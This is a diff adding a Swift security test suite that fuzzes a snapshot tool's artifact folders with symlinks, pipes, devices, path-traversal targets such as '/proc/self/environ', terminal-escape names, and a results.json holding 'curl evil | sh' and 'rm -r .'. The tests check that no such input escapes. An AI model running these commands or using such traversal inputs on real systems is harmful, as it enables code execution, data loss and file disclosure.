@@ -1,0 +1,374 @@
+import Drawing
+import Foundation
+import PlaygroundApp
+import Snapshots
+import Testing
+
+/// Artifacts that were damaged or made on purpose: whatever is in them, `accept`, `merge` and `test` write nothing outside
+/// the goldens of the local set, read nothing outside the artifacts, come to an end and print no control character.
+@Suite struct HostileArtifactsTests {
+  /// A set with one failure, its artifacts, and files outside that nothing may touch or show.
+  private let bench: TestBench
+  private let original: [String: [UInt8]]
+  private let goldens: [String: [UInt8]]
+  private let outside: [String: [UInt8]]
+
+  init() throws {
+    // Small, so that a thousand rounds take seconds.
+    let flick = """
+      { "scene": "plain", "viewport": { "width": 24, "height": 64, "scale": 1 }, "content": { "width": 24, "height": 400 },
+        "duration": 0.3, "capture": [0, 0.1, 0.2, 0.3],
+        "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
+      """
+    bench = try TestBench(["a": flick, "b": flick.replacingOccurrences(of: "-50", with: "-40")]).recorded()
+    let change = try #require(ProfileChange("glide.rate=0.99"))
+    let failed = bench.run {
+      $0.settings.changes = [change]
+      $0.only = ["a"]
+    }
+    #expect(failed.error?.code == .comparisonFailed)
+    let folder = bench.folder
+    try WholeFile.makeFolder(folder("outside/a"))
+    // Such as a golden, so that only the rules keep it from becoming one.
+    try PNG.write(
+      Bitmap(width: 24, height: 64, filledWith: Color(0x12_3456)), to: folder("outside/secret.png"))
+    var track = folder.text(of: "S/Goldens/b/trajectory.csv")
+    track +=
+      track.split(separator: "\n").last.map { "\($0)\n".replacingOccurrences(of: "0.5,", with: "0.625,") }
+      ?? ""
+    try WholeFile.write(Array(track.utf8), to: folder("outside/secret.csv"))
+    // A whole result, so that only the rules keep a link to it from being read.
+    for name in try WholeFile.names(in: folder("artifacts/a")) {
+      let secret: [UInt8]
+      if name.hasSuffix(".png") {
+        secret = try WholeFile.read(folder("outside/secret.png"))
+      } else if name.hasSuffix(".csv") {
+        secret = Array(track.utf8)
+      } else {
+        let text = folder.text(of: "artifacts/a/\(name)")
+        secret = Array(text.replacingOccurrences(of: "the offset differs", with: "secret-4f1d").utf8)
+      }
+      try WholeFile.write(secret, to: folder("outside/a/\(name)"))
+    }
+    for name in [".bashrc", "trajectory.csv", "results.json"] {
+      try WholeFile.write(Array("secret-4f1d \(name)".utf8), to: folder("outside/\(name)"))
+    }
+    original = Self.files(folder("artifacts"))
+    goldens = Self.files(folder("S/Goldens"))
+    outside = Self.files(folder("outside"))
+    #expect(original.keys.contains("a/trajectory.actual.csv") && original.keys.contains("results.json"))
+  }
+
+  private static func files(_ folder: String) -> [String: [UInt8]] {
+    var files: [String: [UInt8]] = [:]
+    for name in (try? FileManager.default.subpathsOfDirectory(atPath: folder)) ?? [] {
+      var status = stat()
+      guard lstat("\(folder)/\(name)", &status) == 0, status.st_mode & S_IFMT == S_IFREG,
+        status.st_size < 1 << 24
+      else { continue }
+      files[name] = try? WholeFile.read("\(folder)/\(name)")
+    }
+    return files
+  }
+
+  /// Runs what reads artifacts over a folder of them, and checks what came of it.
+  private func check(_ name: String, withTest: Bool, _ comment: Comment) throws {
+    let folder = bench.folder
+    var said = ""
+    for names in [["a"], []] {
+      let answer = bench.accept(names) {
+        $0.artifacts = folder(name)
+        $0.acceptsAll = names.isEmpty
+      }
+      said += answer.output + (answer.error?.description ?? "")
+      try expectUntouched(comment)
+      let now = Self.files(folder("S/Goldens"))
+      for (file, bytes) in now where goldens[file] != bytes {
+        #expect(outside["secret.png"] != bytes && outside["secret.csv"] != bytes, comment)
+        if file.hasSuffix(".png") {
+          let picture = try? PNG.decode(bytes)
+          #expect(picture != nil && picture?.pixels.first != 0xFF12_3456, comment)
+        }
+      }
+      if now != goldens { try restoreGoldens() }
+    }
+    let capture = Capture()
+    var merge = MergeCommand([folder(name)], settings: capture.settings())
+    merge.set.inputs = [folder("S")]
+    merge.report = folder("report.html")
+    merge.xunit = folder("report.xml")
+    said += ending { try merge.run() }?.description ?? ""
+    said += capture.output + capture.errors
+    if withTest {
+      let answer = bench.run { $0.plan.artifacts = folder(name) }
+      said += answer.output + (answer.error?.description ?? "")
+      #expect(Self.files(folder("S/Goldens")) == goldens, comment)
+    }
+    try expectUntouched(comment)
+    let page = folder.text(of: "report.html") + folder.text(of: "report.xml")
+    for text in [said, page] {
+      #expect(!text.contains("secret-4f1d"), comment)
+      for bytes in outside.values { #expect(!text.contains(Data(bytes).base64EncodedString()), comment) }
+    }
+    #expect(
+      !said.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) },
+      comment)
+    #expect(said.utf8.count < 1 << 20, comment)
+  }
+
+  private func expectUntouched(_ comment: Comment) throws {
+    #expect(Self.files(bench.folder("outside")) == outside, comment)
+    let own: Set = ["S", "artifacts", "outside", "mutant", "report.html", "report.xml"]
+    let found = try FileManager.default.contentsOfDirectory(atPath: bench.folder.path)
+    #expect(own.isSuperset(of: found), comment)
+    #expect(try FileManager.default.contentsOfDirectory(atPath: bench.folder("S")).count == 3, comment)
+  }
+
+  private func restoreGoldens() throws {
+    try FileManager.default.removeItem(atPath: bench.folder("S/Goldens"))
+    for (name, bytes) in goldens {
+      let path = bench.folder("S/Goldens/\(name)")
+      try WholeFile.makeFolder((path as NSString).deletingLastPathComponent)
+      try WholeFile.write(bytes, to: path)
+    }
+  }
+
+  private func unpack(to name: String) throws {
+    let path = bench.folder(name)
+    try? FileManager.default.removeItem(atPath: path)
+    for (file, bytes) in original {
+      try WholeFile.makeFolder("\(path)/\((file as NSString).deletingLastPathComponent)")
+      try Data(bytes).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
+    }
+  }
+
+  // MARK: Mutations
+
+  /// The number of /dev/zero.
+  private static let zeroDevice: dev_t = 1 << 8 | 5
+
+  /// Paths and names that want to leave.
+  private var targets: [String] {
+    let folder = bench.folder
+    return [
+      folder("outside/.bashrc"), folder("outside/secret.png"), folder("outside/secret.csv"),
+      folder("outside"),
+      "../outside/secret.png", "../../outside/.bashrc", "a/../../outside/secret.csv", "/etc/hostname",
+      "/dev/zero",
+      "/dev/stdin", "/proc/self/environ", "", ".", "..", "/", "a/..", "./a", "a\u{1B}[2J",
+      "a\nnext: playground", "\u{9B}31m",
+      "a\u{0}b", "e" + String(repeating: "\u{301}", count: 20_000), String(repeating: "../", count: 2000),
+      "~/.bashrc",
+      ".hidden", "trajectory.csv", "frame-00000.png", "pixels.txt", "result.json",
+    ]
+  }
+
+  /// Changes something about a folder of artifacts, and says what.
+  private func mutate(_ name: String, _ random: inout SplitMix) throws -> String {
+    let folder = bench.folder(name), files = FileManager.default
+    let all = original.keys.sorted()
+    let file = all[random.below(all.count)], path = "\(folder)/\(file)"
+    let ending = (file as NSString).pathExtension
+    let secret = bench.folder("outside/\(ending == "json" ? "a/result.json" : "secret.\(ending)")")
+    let target = random.below(2) == 0 ? secret : targets[random.below(targets.count)]
+    let json = [TestRun.fileName, "a/\(SnapshotResult.fileName)"][random.below(2)]
+    // What is beyond a link is not changed by the mutations themselves.
+    var status = stat()
+    guard lstat("\(folder)/a", &status) != 0 || status.st_mode & S_IFMT == S_IFDIR else { return "nothing" }
+    guard lstat(path, &status) != 0 || status.st_mode & S_IFMT == S_IFREG else { return "nothing" }
+    func replace(_ path: String, by make: (String) -> Int32) {
+      try? files.removeItem(atPath: path)
+      _ = make(path)
+    }
+    switch random.below(14) {
+    case 0:
+      replace(path) { symlink(target.contains("\0") ? "x" : target, $0) }
+      return "\(file) is a link to \(target.debugDescription)"
+    case 1:
+      replace(path) { mkfifo($0, 0o666) }
+      return "\(file) is a pipe"
+    case 2:
+      // Where the system admits no devices this is an empty place.
+      replace(path) { mknod($0, S_IFCHR | 0o666, Self.zeroDevice) }
+      return "\(file) is /dev/zero"
+    case 3:
+      replace(path) { mkdir($0, 0o777) }
+      return "\(file) is a folder"
+    case 4:
+      replace("\(folder)/a") { symlink(bench.folder("outside/a"), $0) }
+      return "a is a link to a folder"
+    case 5:
+      truncate(path, 1 << 31)
+      return "\(file) is huge"
+    case 6:
+      guard var bytes = try? WholeFile.read(path, limit: 1 << 24), !bytes.isEmpty else { return "nothing" }
+      for _ in 0..<1 + random.below(8) { bytes[random.below(bytes.count)] = UInt8(random.below(256)) }
+      try Data(bytes).write(to: URL(fileURLWithPath: path))
+      return "\(file) is damaged"
+    case 7:
+      try? files.moveItem(atPath: path, toPath: path + ["\u{1B}[31m", "\n", "\u{85}"][random.below(3)])
+      return "\(file) has another name"
+    case 8:
+      let twin = "\(folder)/a\u{1B}]0;x\u{7}\nb\(random.below(9))"
+      try WholeFile.makeFolder(twin)
+      for (name, bytes) in original where name.hasPrefix("a/") {
+        try WholeFile.write(bytes, to: twin + "/" + name.dropFirst(2))
+      }
+      return "a twice"
+    case 9:
+      try? files.moveItem(atPath: "\(folder)/a", toPath: "\(folder)/c")
+      return "a is c"
+    default:
+      guard lstat("\(folder)/\(json)", &status) == 0, status.st_mode & S_IFMT == S_IFREG,
+        let bytes = try? WholeFile.read("\(folder)/\(json)", limit: 1 << 24),
+        var value = try? JSONSerialization.jsonObject(with: Data(bytes))
+      else { return "nothing" }
+      var left = random.below(Self.leaves(value))
+      let new: Any =
+        switch random.below(6) {
+        case 0: random.below(2) == 0 ? -1 : 9_007_199_254_740_993
+        case 1: [target]
+        case 2: ["file": target]
+        default: target
+        }
+      Self.replaceLeaf(&value, &left, by: new)
+      let data = try JSONSerialization.data(withJSONObject: value)
+      try data.write(to: URL(fileURLWithPath: "\(folder)/\(json)"))
+      return "\(json) says \(new)"
+    }
+  }
+
+  private static func leaves(_ value: Any) -> Int {
+    switch value {
+    case let members as [String: Any]: members.values.reduce(0) { $0 + leaves($1) }
+    case let elements as [Any] where elements.first is NSNumber: 1
+    case let elements as [Any]: elements.reduce(0) { $0 + leaves($1) }
+    default: 1
+    }
+  }
+
+  private static func replaceLeaf(_ value: inout Any, _ number: inout Int, by new: Any) {
+    switch value {
+    case var members as [String: Any]:
+      for key in members.keys.sorted() {
+        guard number >= 0, var member = members[key] else { continue }
+        replaceLeaf(&member, &number, by: new)
+        members[key] = member
+      }
+      value = members
+    case var elements as [Any] where !(elements.first is NSNumber):
+      for index in elements.indices where number >= 0 { replaceLeaf(&elements[index], &number, by: new) }
+      value = elements
+    default:
+      if number == 0 { value = new }
+      number -= 1
+    }
+  }
+
+  @Test(.timeLimit(.minutes(5))) func mutatedFoldersDoNoHarm() throws {
+    for seed in 0..<Tier.count(sample: 100, full: 1000) {
+      var random = SplitMix(seed: UInt64(seed))
+      try unpack(to: "mutant")
+      var changes: [String] = []
+      for _ in 0..<1 + random.below(3) { changes.append(try mutate("mutant", &random)) }
+      try check("mutant", withTest: seed % 25 == 0, "seed \(seed): \(changes)")
+    }
+  }
+
+  // MARK: As they were found
+
+  private func write(_ json: String, to name: String) throws {
+    try WholeFile.makeFolder((bench.folder("mutant/\(name)") as NSString).deletingLastPathComponent)
+    try WholeFile.write(Array(json.utf8), to: bench.folder("mutant/\(name)"))
+  }
+
+  @Test func aGoldenElsewhereIsNotWritten() throws {
+    for golden in [bench.folder("outside/.bashrc"), "../outside/.bashrc"] {
+      for name in ["x", "a"] {
+        try? FileManager.default.removeItem(atPath: bench.folder("mutant"))
+        try write(
+          #"{"name":"\#(name)","outcome":"failed","golden":{"file":"\#(golden)"},"track":{"golden":"t","actual":"p"}}"#,
+          to: "\(name)/result.json")
+        try write("evil", to: "\(name)/p")
+        let answer = bench.accept([name]) { $0.artifacts = bench.folder("mutant") }
+        #expect(answer.error?.code == .invalidInput)
+        try expectUntouched("\(name) to \(golden)")
+        #expect(Self.files(bench.folder("S/Goldens")) == goldens)
+      }
+    }
+  }
+
+  @Test func aForeignTrackIsNotRemoved() throws {
+    try write(
+      #"{"name":"a","outcome":"failed","golden":{"folder":"\#(bench.folder("outside/a"))"},"track":{"golden":"\#(bench.folder("outside/a/trajectory.csv"))"}}"#,
+      to: "a/result.json")
+    let answer = bench.accept(["a"]) { $0.artifacts = bench.folder("mutant") }
+    // It goes where it belongs to the set: that is what was asked for.
+    #expect(answer.output == "accepted a: trajectory.csv is gone\n")
+    #expect(Self.files(bench.folder("outside")) == outside)
+  }
+
+  @Test(.timeLimit(.minutes(1)), arguments: ["/etc/hostname", "/dev/zero", "PIPE"])
+  func aReportShowsNoOtherFile(_ path: String) throws {
+    let path = path == "PIPE" ? bench.folder("mutant/pipe") : path
+    try WholeFile.makeFolder(bench.folder("mutant"))
+    if path.hasSuffix("pipe") { mkfifo(path, 0o666) }
+    try write(
+      """
+      { "version": 1, "names": ["a"], "unused": [], "artifacts": "x", "seconds": 0, "results": [
+        { "name": "a", "outcome": "passed", "frames": [ { "number": 0, "time": 0, "verdict": "same", "lines": [],
+          "expected": "\(path)" } ] } ] }
+      """, to: "results.json")
+    let capture = Capture()
+    var merge = MergeCommand([bench.folder("mutant")], settings: capture.settings())
+    merge.set.inputs = [bench.folder("S")]
+    merge.report = bench.folder("report.html")
+    #expect(ending { try merge.run() } == nil)
+    let html = bench.folder.text(of: "report.html")
+    #expect(html.contains(bench.folder("S/Goldens/a/frame-00000.png")) && !html.contains(path))
+  }
+
+  @Test func commandsAreMadeAnew() throws {
+    try write(
+      """
+      { "version": 1, "names": ["a"], "unused": [], "artifacts": "x", "seconds": 0, "results": [
+        { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r ."], "frames": [
+          { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
+      """, to: "results.json")
+    let capture = Capture()
+    var merge = MergeCommand([bench.folder("mutant")], settings: capture.settings())
+    merge.set.inputs = [bench.folder("S")]
+    merge.report = bench.folder("report.html")
+    #expect(ending { try merge.run() }?.code == .comparisonFailed)
+    #expect(!capture.output.contains("curl") && !bench.folder.text(of: "report.html").contains("curl evil"))
+    #expect(capture.output.contains("  one\\u000anext: rm -r .\n"))
+    #expect(capture.output.contains("  next: playground accept a --scenarios "))
+  }
+
+  @Test func sizesAreLimitedBeforeReading() throws {
+    for (file, what) in [
+      ("trajectory.csv", "at most 67108864 bytes"), ("pixels.txt", "at most 8388608 bytes"),
+    ] {
+      let path = bench.folder("S/Goldens/a/\(file)")
+      truncate(path, 1 << 30)
+      let answer = bench.run { $0.only = ["a"] }
+      #expect(answer.error != nil)
+      #expect(answer.output.contains(path) && answer.output.contains(what), "\(answer.output)")
+      try restoreGoldens()
+    }
+  }
+
+  @Test func artifactsThatAreLinksAreNotWrittenThrough() throws {
+    try WholeFile.makeFolder(bench.folder("mutant"))
+    symlink(bench.folder("outside/a"), bench.folder("mutant/a"))
+    symlink(bench.folder("outside/results.json"), bench.folder("mutant/results.json"))
+    let change = try #require(ProfileChange("glide.rate=0.99"))
+    let answer = bench.run {
+      $0.plan.artifacts = bench.folder("mutant")
+      $0.settings.changes = [change]
+    }
+    #expect(answer.error != nil)
+    #expect(answer.output.contains("expected a folder, found a link, device, pipe or socket"))
+    #expect(Self.files(bench.folder("outside")) == outside)
+  }
+}
